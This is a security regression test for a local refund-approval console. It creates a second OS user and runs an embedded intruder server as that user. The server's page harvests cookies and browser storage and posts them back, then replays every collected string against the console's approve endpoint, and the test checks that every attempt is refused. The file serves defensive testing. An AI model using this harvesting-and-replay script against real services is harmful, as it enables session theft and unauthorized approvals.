import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { chmodSync, existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { approvalApiDecider, createClient } from '../../client/ledger-client.js';
import { startLocalConsole } from '../../console/local.js';
import type { ConsoleServer } from '../../console/server.js';
import type { ApprovalRecord } from '../../lambdas/records/ledger-records.js';
import { sampleInput, startHarness, type Harness } from '../support/refund-harness.js';

/**
 * Another local user cannot take the console's session (issue 36's first finding). A second OS
 * user runs a server on another loopback port; the owner's browser, with the console open and its
 * event stream live, is navigated to it. That server collects everything the browser sends it
 * (every header of every request, cookies included, and what its page's script can read), and
 * replays all of it against the console's decide endpoint, as the red team did: every attempt is
 * refused, and the approval still waits. (A browser sends the cookies of 127.0.0.1 to every port of
 * it: the session cookie the console used to set was collected here and approved a refund.)
 *
 * Needs root (to create the user and run a process as it) and Chromium; skipped, saying which, without.
 */
const CHROMIUM = process.env['CHROMIUM_PATH'] ?? '/usr/bin/chromium';
const root = process.getuid?.() === 0;
const haveUseradd = spawnSync('useradd', ['--help']).status === 0;
const haveChromium = existsSync(CHROMIUM);
const skipReason = !root
  ? 'not root: it creates a second OS user (useradd) and runs a server as that user'
  : !haveUseradd
    ? 'no useradd to create a second OS user'
    : !haveChromium
      ? `no Chromium at ${CHROMIUM} (apt-get install chromium, or set CHROMIUM_PATH)`
      : undefined;
if (skipReason) console.warn(`second-user console test skipped: ${skipReason}`);

/**
 * The other user's server: plain Node, no dependencies (it runs as a user who can read nothing of
 * ours). It serves a page, records every request, and once the page reported what its script could
 * read, tries every string it collected against the console, as a header, a cookie and a ticket.
 */
const INTRUDER = String.raw`
import { createServer, request } from 'node:http';
const [consolePort, approvalId] = process.argv.slice(2);
const consoleOrigin = 'http://127.0.0.1:' + consolePort;
const seen = [];
const page = '<!doctype html><title>cat pictures</title><script>' + (async () => {
  const read = { cookie: document.cookie, referrer: document.referrer, href: location.href, local: { ...localStorage }, session: { ...sessionStorage } };
  // What a page may try from another port of 127.0.0.1 with the browser's own credentials.
  const consoleOrigin = document.documentElement.dataset.console;
  for (const [name, init] of [['ticket', { credentials: 'include' }], ['runs', { credentials: 'include' }]]) {
    try {
      const response = await fetch(consoleOrigin + '/api/' + (name === 'ticket' ? 'stream-ticket' : 'runs'), init);
      read[name] = await response.text();
    } catch (error) {
      read[name] = 'blocked: ' + error.message;
    }
  }
  await fetch('/collect', { method: 'POST', body: JSON.stringify(read) });
}).toString().replace(/^/, '(') + ')()</script>';

function send(method, path, headers, body) {
  return new Promise((resolve) => {
    const outgoing = request(consoleOrigin + path, { method, headers }, (response) => {
      let text = '';
      response.on('data', (chunk) => (text += chunk));
      response.on('end', () => resolve({ status: response.statusCode, body: text.slice(0, 200) }));
    });
    outgoing.on('error', (error) => resolve({ status: 0, body: String(error) }));
    outgoing.end(body);
  });
}

async function replay() {
  const strings = new Set();
  const collect = (value) => {
    if (typeof value === 'string') {
      strings.add(value);
      for (const part of value.split(/[;,&\s]+/)) {
        strings.add(part);
        const [, after] = part.split(/=(.*)/s);
        if (after) strings.add(after);
        try { strings.add(decodeURIComponent(after ?? part)); } catch {}
      }
      try { collect(JSON.parse(value)); } catch {}
    } else if (value && typeof value === 'object') for (const item of Object.values(value)) collect(item);
  };
  collect(seen);
  const decide = '/api/approvals/' + approvalId + '/decide';
  const own = { origin: consoleOrigin, host: '127.0.0.1:' + consolePort, 'content-type': 'application/json', 'sec-fetch-site': 'same-origin' };
  const attempts = [];
  const attempt = async (what, method, path, headers, body) => attempts.push({ what, ...(await send(method, path, headers, body)) });
  // Every request the browser sent, its headers verbatim (cookies and all), as the console's own page.
  for (const { headers } of seen) {
    const { host, 'content-length': _length, ...rest } = headers;
    await attempt('verbatim headers', 'POST', decide, { ...rest, ...own }, '{"decision":"approve"}');
  }
  for (const value of strings) {
    if (value.length < 16 || value.length > 4096 || /[^\x21-\x7e]/.test(value)) continue;
    await attempt('as the token header', 'POST', decide, { ...own, 'x-savepoint-token': value }, '{"decision":"approve"}');
    await attempt('as a cookie', 'POST', decide, { ...own, cookie: 'savepoint_console_' + consolePort + '=' + value }, '{"decision":"approve"}');
    await attempt('as basic auth', 'POST', decide, { ...own, authorization: 'Basic ' + Buffer.from('savepoint:' + value).toString('base64') }, '{"decision":"approve"}');
    await attempt('as a stream ticket', 'GET', '/api/events?ticket=' + encodeURIComponent(value), {});
  }
  return attempts;
}

const server = createServer((incoming, response) => {
  let body = '';
  incoming.on('data', (chunk) => (body += chunk));
  incoming.on('end', async () => {
    seen.push({ method: incoming.method, url: incoming.url, headers: incoming.headers, body });
    if (incoming.url === '/collect') {
      response.end('thanks');
      const attempts = await replay();
      console.log(JSON.stringify({ uid: process.getuid(), seen, attempts }));
      return;
    }
    response.writeHead(200, { 'content-type': 'text/html' });
    response.end(page.replace('<title>', '<html data-console="' + consoleOrigin + '"><title>'));
  });
});
server.listen(0, '127.0.0.1', () => console.log(JSON.stringify({ listening: server.address().port })));
`;

interface Report {
  uid: number;
  seen: { method: string; url: string; headers: Record<string, string>; body: string }[];
  attempts: { what: string; status: number; body: string }[];
}

describe.skipIf(skipReason !== undefined)('another local user, with a server on another loopback port', () => {
  const user = `sp-intruder-${randomBytes(3).toString('hex')}`;
  let uid: number;
  let gid: number;
  let work: string;
  let harness: Harness;
  let server: ConsoleServer;
  let browser: Browser;
  let intruder: ChildProcess | undefined;

  beforeAll(async () => {
    const added = spawnSync('useradd', ['--no-create-home', '--shell', '/usr/sbin/nologin', user], { encoding: 'utf8' });
    if (added.status !== 0) throw new Error(`useradd ${user}: ${added.stderr}`);
    uid = Number(spawnSync('id', ['-u', user], { encoding: 'utf8' }).stdout);
    gid = Number(spawnSync('id', ['-g', user], { encoding: 'utf8' }).stdout);
    work = mkdtempSync(join(tmpdir(), 'savepoint-second-user-'));
    chmodSync(work, 0o755); // the intruder reads its script here, and nothing else of ours
    writeFileSync(join(work, 'intruder.mjs'), INTRUDER, { mode: 0o644 });
    const { chromium } = await import('playwright-core');
    [harness, browser] = await Promise.all([startHarness(), chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] })]);
    server = await startLocalConsole(harness.stack);
  }, 120_000);
  afterAll(async () => {
    intruder?.kill();
    await browser?.close();
    await server?.close();
    await harness?.stack.close();
    if (work) rmSync(work, { recursive: true, force: true });
    spawnSync('userdel', [user]);
  });

  it("collects nothing from the owner's browser that the console takes: every replay is refused and the refund still waits", async () => {
    const client = createClient({ ledger: harness.stack.ledger, sfn: harness.stack.sfn, stateMachineArn: harness.stack.stateMachineArn, decide: approvalApiDecider(harness.stack.endpoints.approvals), agent: harness.stack.agent });
    await client.start({ input: sampleInput, config: { approvalTimeoutSeconds: 3600 } });
    const waiting = await client.wait('refunds-2026-11-28', { untilInput: true });
    const approval = waiting.approvals[0]!;

    // The other user's server, as that user.
    intruder = spawn(process.execPath, [join(work, 'intruder.mjs'), new URL(server.origin).port, approval.approvalId], { uid, gid, cwd: work, env: {}, stdio: ['ignore', 'pipe', 'inherit'] });
    const lines = createInterface({ input: intruder.stdout! })[Symbol.asyncIterator]();
    const next = async () => JSON.parse(((await lines.next()).value as string | undefined) ?? '{}') as Record<string, unknown>;
    const { listening } = (await next()) as { listening: number };

    // The owner opens the console as printed; its page holds the session and its event stream is live.
    const page = await browser.newPage();
    await page.goto(server.url);
    await page.locator('tr[data-run="refunds-2026-11-28"]').waitFor();
    await page.locator('#live.on').waitFor();
    // Then follows a link to the other user's page, in the same tab.
    await page.goto(`http://127.0.0.1:${listening}/`);
    const report = (await next()) as unknown as Report;

    expect(report.uid).toBe(uid);
    expect(report.uid).not.toBe(process.getuid?.());
    // It saw the browser's requests (the page and its report) and tried every string in them.
    expect(report.seen.map((request) => `${request.method} ${request.url}`)).toEqual(expect.arrayContaining(['GET /', 'POST /collect']));
    expect(report.attempts.length).toBeGreaterThan(report.seen.length);
    expect(report.attempts.filter((attempt) => attempt.status !== 403)).toEqual([]);
    // Its page could not read the console either (no CORS): the browser refused it the answers.
    const collected = JSON.parse(report.seen.find((request) => request.url === '/collect')!.body) as Record<string, string>;
    expect(collected['ticket']).toMatch(/^blocked/);
    expect(collected['runs']).toMatch(/^blocked/);
    expect(JSON.stringify(report)).not.toContain(server.token);

    const stored = (await harness.stack.ledger.findApproval(approval.approvalId)) as ApprovalRecord;
    expect(stored).toMatchObject({ status: 'pending' });
  }, 180_000);
});
